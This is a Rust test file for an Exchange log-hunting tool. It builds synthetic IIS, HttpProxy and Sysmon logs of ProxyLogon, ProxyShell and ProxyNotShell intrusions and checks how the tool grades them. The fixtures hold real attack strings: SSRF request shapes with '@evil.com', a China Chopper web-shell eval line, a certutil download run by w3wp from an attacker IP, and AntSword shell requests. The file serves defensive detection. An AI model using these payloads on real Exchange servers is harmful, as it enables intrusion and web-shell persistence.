//! Verdict precision (issue 13): one request in IIS and HttpProxy logs is one step graded on the
//! HttpProxy view, builds rule campaigns out, generic indicators count for the campaign whose
//! exploitation they are linked to, known checkers are scans, and refused attempts are told apart
//! from attempts of unknown outcome.
//!
//! Each fixture is a small server tree written at test time in the shape of real logs (HttpProxy
//! CSV with its directives, IIS W3C, a flattened Sysmon export), the near miss next to the hit.

use std::path::Path;

use exhunt_checks::{Engine, ScanOptions};
use exhunt_model::{Campaign, Finding, Outcome, ServerResult, Stage, VerdictKind};

const PROXY_FIELDS: &str = "DateTime,RequestId,Protocol,UrlStem,AuthenticationType,IsAuthenticated,AuthenticatedUser,AnchorMailbox,UserAgent,ClientIpAddress,ServerHostName,HttpStatus,BackEndStatus,Method,TargetServer,RoutingHint,BackEndCookie,UrlQuery";

/// One HttpProxy line from named values (others empty).
fn proxy(values: &[(&str, &str)]) -> String {
    PROXY_FIELDS
        .split(',')
        .map(|f| {
            let v = values
                .iter()
                .find(|(k, _)| *k == f)
                .map(|(_, v)| *v)
                .unwrap_or(if f == "ServerHostName" { "EX01" } else { "" });
            if v.contains(',') {
                format!("\"{}\"", v.replace('"', "\"\""))
            } else {
                v.to_string()
            }
        })
        .collect::<Vec<_>>()
        .join(",")
}

fn proxy_file(version: &str, date: &str, lines: &[String]) -> String {
    let mut s = format!(
        "{PROXY_FIELDS}\r\n#Software: Microsoft Exchange Server\r\n#Version: {version}\r\n#Log-type: HttpProxy Logs\r\n#Date: {date}\r\n#Fields: {PROXY_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

const IIS_FIELDS: &str = "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken";

fn iis_file(date: &str, lines: &[String]) -> String {
    let mut s = format!(
        "#Software: Microsoft Internet Information Services 10.0\r\n#Version: 1.0\r\n#Date: {date}\r\n#Fields: {IIS_FIELDS}\r\n"
    );
    for l in lines {
        s.push_str(l);
        s.push_str("\r\n");
    }
    s
}

fn write(root: &Path, rel: &str, text: &str) {
    let p = root.join(rel);
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

const PROXY_ECP: &str = "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Ecp";
const PROXY_AUTOD: &str =
    "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Autodiscover";
const IIS: &str = "inetpub/logs/LogFiles/W3SVC1";

fn scan(root: &Path) -> ServerResult {
    let engine = Engine::new(ScanOptions::default()).unwrap();
    let r = engine.scan(&[root.to_path_buf()]);
    assert_eq!(r.servers.len(), 1, "{:#?}", r.servers);
    r.servers[0].clone()
}

fn verdict(s: &ServerResult, c: Campaign) -> &exhunt_model::Verdict {
    s.verdicts.iter().find(|v| v.campaign == c).unwrap()
}

fn show(s: &ServerResult) -> String {
    let mut out = String::new();
    for f in &s.findings {
        out.push_str(&format!(
            "{:?} {} {:?} {:?} {:?} {}\n",
            f.timestamp, f.rule_id, f.campaign, f.stage, f.outcome, f.title
        ));
    }
    for v in &s.verdicts {
        out.push_str(&format!(
            "{:?}: {} {:?}\n",
            v.campaign, v.summary, v.reasons
        ));
    }
    out
}

/// March 2021 mass scanning: SSRF attempts whose back end was only autodiscover.xml (the
/// scanner had no mailbox), each seen in HttpProxy and, as `POST /ecp/<x>.js 200`, in IIS.
fn mass_scanning(root: &Path, extra_proxy: &[String], extra_iis: &[String]) {
    let scans = [
        (
            "2021-03-03T02:14:05.585Z",
            "02:14:05",
            "198.51.100.11",
            "x.js",
            "1a",
        ),
        (
            "2021-03-03T05:40:11.020Z",
            "05:40:11",
            "198.51.100.12",
            "y.js",
            "2b",
        ),
        (
            "2021-03-04T11:02:59.912Z",
            "11:03:00",
            "203.0.113.99",
            "ab.js",
            "3c",
        ),
    ];
    let mut proxy_lines = vec![proxy(&[
        ("DateTime", "2021-03-03T00:00:01.000Z"),
        ("UrlStem", "/ecp/"),
        ("HttpStatus", "200"),
        ("Method", "GET"),
        ("AuthenticatedUser", "CONTOSO\\exadmin"),
        ("ClientIpAddress", "10.1.0.15"),
    ])];
    let mut iis_lines = Vec::new();
    for (t, iis_t, ip, name, id) in scans {
        proxy_lines.push(proxy(&[
            ("DateTime", t),
            (
                "RequestId",
                &format!("{id}0e41a7-1111-2222-3333-444455556666"),
            ),
            ("Protocol", "Ecp"),
            ("UrlStem", &format!("/ecp/{name}")),
            ("AuthenticationType", "FBA"),
            ("IsAuthenticated", "false"),
            (
                "AnchorMailbox",
                "ServerInfo~a]@EX01.contoso.local:444/autodiscover/autodiscover.xml?#",
            ),
            ("UserAgent", "python-requests/2.25.1"),
            ("ClientIpAddress", ip),
            ("HttpStatus", "200"),
            ("BackEndStatus", "200"),
            ("Method", "POST"),
            ("TargetServer", "EX01.contoso.local"),
            ("RoutingHint", "X-AnonResource-Backend-Cookie"),
        ]));
        let day = &t[..10];
        iis_lines.push(format!(
            "{day} {iis_t} 10.1.0.10 POST /ecp/{name} - 443 - {ip} python-requests/2.25.1 - 200 0 0 31"
        ));
    }
    proxy_lines.extend(extra_proxy.iter().cloned());
    proxy_lines.push(proxy(&[
        ("DateTime", "2021-03-04T23:59:58.000Z"),
        ("UrlStem", "/ecp/"),
        ("HttpStatus", "200"),
        ("Method", "GET"),
        ("AuthenticatedUser", "CONTOSO\\exadmin"),
        ("ClientIpAddress", "10.1.0.15"),
    ]));
    iis_lines.extend(extra_iis.iter().cloned());
    write(
        root,
        &format!("{PROXY_ECP}/HttpProxy_2021030300-1.LOG"),
        &proxy_file("15.01.2176.002", "2021-03-03T00:00:00.000Z", &proxy_lines),
    );
    write(
        root,
        &format!("{IIS}/u_ex210303.log"),
        &iis_file("2021-03-03 00:00:00", &iis_lines),
    );
}

/// Near miss first: autodiscover-only SSRF attempts and their IIS twins are attempts.
#[test]
fn autodiscover_only_ssrf_with_iis_twins_is_attempted_not_compromised() {
    let t = tempfile::tempdir().unwrap();
    mass_scanning(t.path(), &[], &[]);
    let s = scan(t.path());
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Attempted, "{}", show(&s));
    // Every IIS line is graded on its HttpProxy twin: a failed attempt, in the twin's step.
    let iis: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-PL-4")
        .collect();
    assert_eq!(iis.len(), 3, "{}", show(&s));
    for f in &iis {
        assert_eq!(f.stage, Stage::ExploitAttempt, "{}", f.title);
        assert_eq!(f.outcome, Some(Outcome::Refused), "{}", f.title);
        assert_eq!(f.joins.as_deref(), Some("EXH-PL-1"));
        assert!(f.title.contains("same request as HttpProxy"), "{}", f.title);
        assert!(f.title.contains("autodiscover"), "{}", f.title);
    }
    // One request, one step: the three requests, each in two logs, are one failed-attempt step.
    let ssrf: Vec<_> = s
        .story
        .iter()
        .filter(|st| st.stage == Stage::ExploitAttempt && st.outcome == Some(Outcome::Refused))
        .collect();
    assert_eq!(ssrf.len(), 1, "{:#?}", s.story);
    assert_eq!(ssrf[0].count, 6);
    assert!(
        ssrf[0].summary.starts_with("CVE-2021-26855 SSRF attempt"),
        "the step is told from the HttpProxy view: {}",
        ssrf[0].summary
    );
    assert!(ssrf[0].summary.contains("refused"), "{}", ssrf[0].summary);
    // Counted once per request: three refused SSRF requests, and the three requests' HAFNIUM
    // user-agent hits (seen in both logs too) of unknown outcome.
    assert!(
        pl.reasons
            .iter()
            .any(|r| r.starts_with("3 attempt(s) failed")
                && r.contains("; 3 attempt(s) of unknown outcome")),
        "{:?}",
        pl.reasons
    );
    // The scanners' python-requests user agent is on the HAFNIUM list: linked to the
    // ProxyLogon attempts by client, it stays with ProxyLogon (an attempt, never more).
    assert!(
        s.findings
            .iter()
            .filter(|f| f.rule_id == "EXH-IOC-2")
            .all(|f| f.campaign == Campaign::ProxyLogon && f.stage == Stage::ExploitAttempt)
    );
}

/// The same server where one SSRF reached the ECP back end and the ECP log shows the
/// OAB virtual directory set to script: compromised.
#[test]
fn backend_ssrf_and_an_ecp_change_on_the_same_server_is_compromised() {
    let t = tempfile::tempdir().unwrap();
    let hit = proxy(&[
        ("DateTime", "2021-03-03T02:15:41.111Z"),
        ("RequestId", "799b7f7a-9987-5dce-cbd2-e93cbf1238b6"),
        ("Protocol", "Ecp"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01.contoso.local:444/ecp/DDI/DDIService.svc/SetObject?schema=OABVirtualDirectory&msExchEcpCanary=x#",
        ),
        ("UserAgent", "ExchangeServicesClient/0.0.0.0"),
        ("ClientIpAddress", "192.0.2.66"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    let mapi = proxy(&[
        ("DateTime", "2021-03-03T02:14:09.088Z"),
        ("Protocol", "Ecp"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@EX01.contoso.local:444/mapi/emsmdb/?#",
        ),
        ("ClientIpAddress", "192.0.2.66"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]);
    mass_scanning(
        t.path(),
        &[mapi, hit],
        &[
            "2021-03-03 02:14:09 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 31".into(),
            "2021-03-03 02:15:41 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 ExchangeServicesClient/0.0.0.0 - 200 0 0 31".into(),
        ],
    );
    let chopper = "http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>";
    write(
        t.path(),
        "Program Files/Microsoft/Exchange Server/V15/Logging/ECP/Server/ECPServer2021030302-1.LOG",
        &format!(
            "#Software: Microsoft Exchange Server\r\n#Version: 15.01.2176.002\r\n#Log-type: ECP Server Log\r\n#Date: 2021-03-03T00:00:00.000Z\r\n#Fields: TimeStamp,ServerName,EventId,EventData\r\n2021-03-03T02:15:42.938Z,EX01,ECP.Request,\"S:ACTID=1;S:URL=/ecp/DDI/DDIService.svc/SetObject;S:CMD=Set-OabVirtualDirectory.ExternalUrl='{}'.Identity='OAB (Default Web Site)'\"\r\n",
            chopper.replace('"', "\"\"")
        ),
    );
    let s = scan(t.path());
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Compromised, "{}", show(&s));
    // The IIS twins of the back-end SSRF are successes in the HttpProxy steps.
    let twins: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-PL-4" && f.stage == Stage::ExploitSuccess)
        .collect();
    assert_eq!(twins.len(), 2, "{}", show(&s));
    assert!(twins.iter().all(|f| f.outcome == Some(Outcome::Succeeded)));
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule_id == "EXH-PL-6" && f.stage == Stage::Persistence)
    );
}

/// An IIS-only exploit shape: a success (with lower confidence and the reason) only when no
/// HttpProxy log of its protocol covers its time; an attempt of unknown outcome when one does.
#[test]
fn iis_only_success_needs_the_httpproxy_view_to_be_missing() {
    let iis = iis_file(
        "2021-03-03 00:00:00",
        &["2021-03-03 02:14:05 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.66 Mozilla/5.0 - 200 0 0 31"
            .into()],
    );
    let ecp_cover = proxy_file(
        "15.01.2176.002",
        "2021-03-03T00:00:00.000Z",
        &[
            proxy(&[
                ("DateTime", "2021-03-03T00:00:01.000Z"),
                ("UrlStem", "/ecp/"),
                ("HttpStatus", "200"),
            ]),
            proxy(&[
                ("DateTime", "2021-03-03T23:59:01.000Z"),
                ("UrlStem", "/ecp/"),
                ("HttpStatus", "200"),
            ]),
        ],
    );
    // Only IIS: a success, graded on the IIS line alone.
    let t = tempfile::tempdir().unwrap();
    write(t.path(), &format!("{IIS}/u_ex210303.log"), &iis);
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    assert_eq!(f.confidence, exhunt_model::Confidence::Medium);
    assert!(
        f.title.contains("no HttpProxy log covers this time"),
        "{}",
        f.title
    );
    // An OWA HttpProxy log of that day does not cover an ECP request.
    write(
        t.path(),
        "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021030300-1.LOG",
        &ecp_cover,
    );
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    // Nor does a copy taken out of its protocol folder (a flat triage folder) whose rows do not
    // say their protocol: whose protocol it held is unknown.
    write(t.path(), "copied/HttpProxy_2021030300-1.LOG", &ecp_cover);
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    // A flat copy whose rows say `Protocol=Owa` (the near miss): still not ECP's view.
    let covering = |protocol: &str| {
        let row = |t: &str| {
            proxy(&[
                ("DateTime", t),
                ("Protocol", protocol),
                ("UrlStem", "/owa/"),
                ("HttpStatus", "200"),
            ])
        };
        proxy_file(
            "15.01.2176.002",
            "2021-03-03T00:00:00.000Z",
            &[
                row("2021-03-03T00:00:01.000Z"),
                row("2021-03-03T23:59:01.000Z"),
            ],
        )
    };
    write(
        t.path(),
        "copied/HttpProxy_2021030300-2.LOG",
        &covering("Owa"),
    );
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitSuccess, "{}", show(&s));
    // A flat copy whose rows say `Protocol=Ecp` covers the request: the rows say which
    // protocol's log it is, wherever it was copied. No SSRF row for it: an attempt.
    let flat = tempfile::tempdir().unwrap();
    write(flat.path(), "iis/u_ex210303.log", &iis);
    write(
        flat.path(),
        "proxy/HttpProxy_2021030300-1.LOG",
        &covering("Ecp"),
    );
    let s = scan(flat.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitAttempt, "{}", show(&s));
    assert_eq!(f.outcome, Some(Outcome::Unknown));
    // The ECP HttpProxy log covers it and has no SSRF row for it: an attempt, outcome unknown.
    write(
        t.path(),
        &format!("{PROXY_ECP}/HttpProxy_2021030300-1.LOG"),
        &ecp_cover,
    );
    let s = scan(t.path());
    let f = s.findings.iter().find(|f| f.rule_id == "EXH-PL-4").unwrap();
    assert_eq!(f.stage, Stage::ExploitAttempt, "{}", show(&s));
    assert_eq!(f.outcome, Some(Outcome::Unknown));
    assert!(
        f.title.contains("shows no SSRF for this request"),
        "{}",
        f.title
    );
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Attempted);
    assert!(
        pl.reasons.iter().any(|r| r.contains("unknown outcome")),
        "{:?}",
        pl.reasons
    );
}

const CU23: &str = "15.01.2507.006";
const PNS_IP: &str = "198.51.100.23";

/// A ProxyNotShell intrusion in the public GTSC shape on Exchange 2016 CU23 (fixed for ProxyLogon
/// and ProxyShell, not for ProxyNotShell): authenticated `autodiscover.json` SSRF to the
/// PowerShell back end, a shipped page in `owa\auth` rewritten by w3wp, `certutil` run by w3wp,
/// then the page used as a shell with the AntSword user agent (on the HAFNIUM list). `extra_iis`
/// adds lines to the IIS log.
fn proxynotshell_intrusion(root: &Path, extra_iis: &[String]) {
    let ssrf_q = "@evil.com/powershell/?Email=autodiscover/autodiscover.json%3F@evil.com";
    let mut proxy_lines = vec![proxy(&[
        ("DateTime", "2022-09-20T00:00:03.000Z"),
        ("Protocol", "Autodiscover"),
        ("UrlStem", "/autodiscover/autodiscover.xml"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
        ("AuthenticatedUser", "CONTOSO\\alice"),
        ("ClientIpAddress", "10.1.0.44"),
    ])];
    let mut iis_lines = Vec::new();
    for (t, iis_t, id) in [
        (
            "2022-09-20T03:10:01.204Z",
            "03:10:01",
            "5e2b11aa-0000-4000-8000-000000000001",
        ),
        (
            "2022-09-20T03:10:04.733Z",
            "03:10:05",
            "5e2b11aa-0000-4000-8000-000000000002",
        ),
    ] {
        proxy_lines.push(proxy(&[
            ("DateTime", t),
            ("RequestId", id),
            ("Protocol", "Autodiscover"),
            ("UrlStem", "/autodiscover/autodiscover.json"),
            ("UrlQuery", &format!("?{ssrf_q}")),
            ("AuthenticationType", "Basic"),
            ("IsAuthenticated", "true"),
            ("AuthenticatedUser", "CONTOSO\\svc-scan"),
            ("UserAgent", "python-requests/2.28.1"),
            ("ClientIpAddress", PNS_IP),
            ("HttpStatus", "200"),
            ("Method", "POST"),
        ]));
        iis_lines.push(format!(
            "2022-09-20 {iis_t} 10.1.0.10 POST /autodiscover/autodiscover.json {ssrf_q} 443 CONTOSO\\svc-scan {PNS_IP} python-requests/2.28.1 - 200 0 0 80"
        ));
    }
    proxy_lines.push(proxy(&[
        ("DateTime", "2022-09-21T23:59:01.000Z"),
        ("Protocol", "Autodiscover"),
        ("UrlStem", "/autodiscover/autodiscover.xml"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
        ("AuthenticatedUser", "CONTOSO\\alice"),
        ("ClientIpAddress", "10.1.0.44"),
    ]));
    // The shell in use, from another address, with AntSword's user agent.
    for (tm, n) in [("03:21:40", 1), ("03:25:02", 2), ("04:02:13", 3)] {
        iis_lines.push(format!(
            "2022-09-20 {tm} 10.1.0.10 POST /owa/auth/RedirSuiteServiceProxy.aspx - 443 - 203.0.113.{n} antSword/v2.1 - 200 0 0 15"
        ));
    }
    iis_lines.extend(extra_iis.iter().cloned());
    write(
        root,
        &format!("{PROXY_AUTOD}/HttpProxy_2022092000-1.LOG"),
        &proxy_file(CU23, "2022-09-20T00:00:00.000Z", &proxy_lines),
    );
    iis_lines.sort();
    write(
        root,
        &format!("{IIS}/u_ex220920.log"),
        &iis_file("2022-09-20 00:00:00", &iis_lines),
    );
    let host = "EX01.contoso.local";
    let events = [
        serde_json::json!({"EventTime": "2022-09-20 03:12:30", "Hostname": host,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 1, "SourceName": "Microsoft-Windows-Sysmon",
            "Image": "C:\\Windows\\System32\\certutil.exe", "ParentImage": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "CommandLine": "certutil -urlcache -split -f http://198.51.100.23/a.txt C:\\Users\\Public\\a.txt"}),
        serde_json::json!({"EventTime": "2022-09-20 03:14:02", "Hostname": host,
            "Channel": "Microsoft-Windows-Sysmon/Operational", "EventID": 11, "SourceName": "Microsoft-Windows-Sysmon",
            "Image": "C:\\Windows\\System32\\inetsrv\\w3wp.exe",
            "TargetFilename": "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\RedirSuiteServiceProxy.aspx"}),
    ];
    let text: String = events.iter().map(|e| format!("{e}\n")).collect();
    write(root, "events/ex01-sysmon.jsonl", &text);
}

#[test]
fn proxynotshell_intrusion_on_cu23_is_proxynotshell_only() {
    let t = tempfile::tempdir().unwrap();
    proxynotshell_intrusion(t.path(), &[]);
    let s = scan(t.path());
    let v = |c| verdict(&s, c).verdict;
    assert_eq!(
        v(Campaign::ProxyNotShell),
        VerdictKind::Compromised,
        "{}",
        show(&s)
    );
    assert_ne!(
        v(Campaign::ProxyLogon),
        VerdictKind::Compromised,
        "{}",
        show(&s)
    );
    assert_ne!(
        v(Campaign::ProxyShell),
        VerdictKind::Compromised,
        "{}",
        show(&s)
    );
    assert_ne!(
        v(Campaign::ProxyLogon),
        VerdictKind::Attempted,
        "{}",
        show(&s)
    );
    // Every finding is ProxyNotShell's or post-exploitation.
    for f in &s.findings {
        assert!(
            matches!(
                f.campaign,
                Campaign::ProxyNotShell | Campaign::PostExploitation
            ),
            "{} {:?} {}",
            f.rule_id,
            f.campaign,
            f.title
        );
    }
    // The requests for the page w3wp rewrote belong to ProxyNotShell, and so do the AntSword
    // requests (a request for the file its chain wrote), though the user agent is on the
    // HAFNIUM list.
    let used: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-PL-9")
        .collect();
    assert_eq!(used.len(), 3, "{}", show(&s));
    assert!(used.iter().all(|f| f.campaign == Campaign::ProxyNotShell
        && f.stage == Stage::WebShellUse
        && f.title.contains("ProxyNotShell")));
    let ua: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.rule_id == "EXH-IOC-2")
        .collect();
    assert_eq!(ua.len(), 3, "{}", show(&s));
    assert!(ua.iter().all(|f| f.campaign == Campaign::ProxyNotShell
        && f.title.contains("published 2021-03-02 for ProxyLogon")));
    // The SSRF seen in IIS and HttpProxy is one step.
    let pns_steps: Vec<_> = s
        .story
        .iter()
        .filter(|st| st.stage == Stage::ExploitSuccess)
        .collect();
    assert_eq!(pns_steps.len(), 1, "{:#?}", s.story);
    assert_eq!(pns_steps[0].count, 4);
}

/// On the same server, request shapes of ProxyShell and ProxyLogon answered 200 are attempts at
/// most (the build was fixed for both), with the reason; an indicator hit linked to nothing is
/// post-exploitation; the public ProxyNotShell checker request is a ProxyNotShell scan.
#[test]
fn builds_rule_out_campaigns_and_checkers_are_scans() {
    let t = tempfile::tempdir().unwrap();
    proxynotshell_intrusion(
        t.path(),
        &[
            // ProxyShell's shape, anonymous, answered 200.
            "2022-09-20 01:00:01 10.1.0.10 POST /autodiscover/autodiscover.json @evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com 443 - 192.0.2.80 python-requests/2.26.0 - 200 0 0 80".into(),
            // ProxyLogon's IIS shape answered 200 (no HttpProxy ECP log).
            "2022-09-20 01:05:00 10.1.0.10 POST /ecp/y.js - 443 - 192.0.2.81 Mozilla/5.0 - 200 0 0 31".into(),
            // The public ProxyNotShell checker, anonymous, answered 302.
            "2022-09-20 01:30:00 10.1.0.10 GET /autodiscover/autodiscover.json a..foo.var/owa/&Email=autodiscover/autodiscover.json%3Fa..foo.var&Protocol=XYZ&FooProtocol=Powershell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
            // nuclei's form of it, and the ProxyShell checkers (nuclei, Nessus).
            "2022-09-20 01:30:01 10.1.0.10 GET /autodiscover/autodiscover.json a@foo.var/owa/?&Email=autodiscover/autodiscover.json?a@foo.var&Protocol=XYZ&FooProtocol=Powershell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
            "2022-09-20 01:30:02 10.1.0.10 GET /autodiscover/autodiscover.json @mss.com/owa/?&Email=autodiscover/autodiscover.json%3F@mss.com 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
            "2022-09-20 01:30:03 10.1.0.10 GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=XBZOZEQYJZXJMODOB&Protocol=PowerShell 443 - 192.0.2.82 Mozilla/5.0 - 302 0 0 3".into(),
            // A HAFNIUM address, two days later, nothing to do with the intrusion.
            "2022-09-22 09:00:00 10.1.0.10 GET /owa/ - 443 - 104.140.114.110 Mozilla/5.0 - 302 0 0 3".into(),
        ],
    );
    let s = scan(t.path());
    let ps = verdict(&s, Campaign::ProxyShell);
    assert_eq!(ps.verdict, VerdictKind::Attempted, "{}", show(&s));
    assert!(
        ps.reasons
            .iter()
            .any(|r| r.contains("build 15.1.2507.6 was not vulnerable to ProxyShell")),
        "{:?}",
        ps.reasons
    );
    let pl = verdict(&s, Campaign::ProxyLogon);
    assert_eq!(pl.verdict, VerdictKind::Attempted, "{}", show(&s));
    assert!(
        pl.reasons
            .iter()
            .any(|r| r.contains("not vulnerable to ProxyLogon"))
    );
    for rule in ["EXH-PS-1", "EXH-PL-4"] {
        let f = s
            .findings
            .iter()
            .find(|f| {
                f.rule_id == rule
                    && f.timestamp
                        .is_some_and(|t| t.to_rfc3339().as_str() < "2022-09-20T01:10")
            })
            .unwrap();
        assert_eq!(f.stage, Stage::ExploitAttempt, "{}", f.title);
        assert_eq!(f.outcome, Some(Outcome::Refused));
        assert!(f.title.contains("was not vulnerable"), "{}", f.title);
    }
    // The checkers: scans only, each counted for the campaign it tests.
    let checks: Vec<&Finding> = s
        .findings
        .iter()
        .filter(|f| f.entities.client_ip.as_deref() == Some("192.0.2.82"))
        .collect();
    assert_eq!(checks.len(), 4, "{}", show(&s));
    assert!(
        checks.iter().all(|f| f.stage == Stage::Scan),
        "{}",
        show(&s)
    );
    assert_eq!(checks[0].campaign, Campaign::ProxyNotShell);
    assert!(
        checks[0].title.contains("known checker"),
        "{}",
        checks[0].title
    );
    assert_eq!(checks[2].campaign, Campaign::ProxyShell);
    // The unlinked indicator hit is post-exploitation, not ProxyLogon.
    let ip = s
        .findings
        .iter()
        .find(|f| f.rule_id == "EXH-IOC-1")
        .unwrap();
    assert_eq!(ip.campaign, Campaign::PostExploitation, "{}", ip.title);
    assert!(
        ip.title.contains("no link to an exploitation"),
        "{}",
        ip.title
    );
    assert_eq!(
        verdict(&s, Campaign::ProxyNotShell).verdict,
        VerdictKind::Compromised
    );
}

/// A shell planted before the update still answers after it: a POST to an OWA theme resource
/// (the HAFNIUM access pattern of EXH-PL-4) is neither overruled by a fixed build nor by an OWA
/// HttpProxy log that shows no SSRF: it is not an SSRF.
#[test]
fn web_shell_use_through_owa_theme_resources_after_the_patch_is_not_downgraded() {
    let t = tempfile::tempdir().unwrap();
    write(
        t.path(),
        &format!("{IIS}/u_ex210320.log"),
        &iis_file(
            "2021-03-20 00:00:00",
            &["2021-03-20 11:02:05 10.1.0.10 POST /owa/auth/Current/themes/resources/a.aspx - 443 - 192.0.2.66 Mozilla/5.0 - 200 0 0 31"
                .into()],
        ),
    );
    write(
        t.path(),
        "Program Files/Microsoft/Exchange Server/V15/Logging/HttpProxy/Owa/HttpProxy_2021032000-1.LOG",
        &proxy_file(
            "15.01.2176.009",
            "2021-03-20T00:00:00.000Z",
            &[
                proxy(&[
                    ("DateTime", "2021-03-20T00:00:01.000Z"),
                    ("UrlStem", "/owa/"),
                    ("HttpStatus", "200"),
                ]),
                proxy(&[
                    ("DateTime", "2021-03-20T23:59:01.000Z"),
                    ("UrlStem", "/owa/"),
                    ("HttpStatus", "200"),
                ]),
            ],
        ),
    );
    let s = scan(t.path());
    let f = s
        .findings
        .iter()
        .find(|f| f.rule_id == "EXH-PL-4")
        .unwrap_or_else(|| panic!("{}", show(&s)));
    assert!(f.stage.is_compromise(), "{}", show(&s));
    assert!(!f.title.contains("not vulnerable"), "{}", f.title);
    assert!(!f.title.contains("shows no SSRF"), "{}", f.title);
}

/// The per-rule cap is for noise: a real SSRF success after more than a thousand failed
/// autodiscover attempts of the same rule is kept, and the server is compromised.
#[test]
fn a_success_after_a_thousand_attempts_is_not_capped_away() {
    let t = tempfile::tempdir().unwrap();
    let mut lines: Vec<String> = (0..1100)
        .map(|i| {
            proxy(&[
                (
                    "DateTime",
                    &format!("2021-03-03T01:{:02}:{:02}.000Z", i / 60 % 60, i % 60),
                ),
                ("UrlStem", "/ecp/y.js"),
                (
                    "AnchorMailbox",
                    "ServerInfo~a]@ex01.contoso.local:444/autodiscover/autodiscover.xml?#",
                ),
                ("ClientIpAddress", "192.0.2.66"),
                ("HttpStatus", "200"),
                ("Method", "POST"),
            ])
        })
        .collect();
    lines.push(proxy(&[
        ("DateTime", "2021-03-03T02:14:05.000Z"),
        ("UrlStem", "/ecp/y.js"),
        (
            "AnchorMailbox",
            "ServerInfo~a]@ex01.contoso.local:444/mapi/emsmdb/?#",
        ),
        ("ClientIpAddress", "192.0.2.66"),
        ("HttpStatus", "200"),
        ("Method", "POST"),
    ]));
    write(
        t.path(),
        &format!("{PROXY_ECP}/HttpProxy_2021030301-1.LOG"),
        &proxy_file("15.01.2176.002", "2021-03-03T01:00:00.000Z", &lines),
    );
    let s = scan(t.path());
    assert!(
        s.findings
            .iter()
            .any(|f| f.rule_id == "EXH-PL-1" && f.stage == Stage::ExploitSuccess),
        "{}",
        show(&s)
    );
    assert_eq!(
        verdict(&s, Campaign::ProxyLogon).verdict,
        VerdictKind::Compromised
    );
    assert!(s.suppressed.iter().any(|c| c.rule_id == "EXH-PL-1"));
}
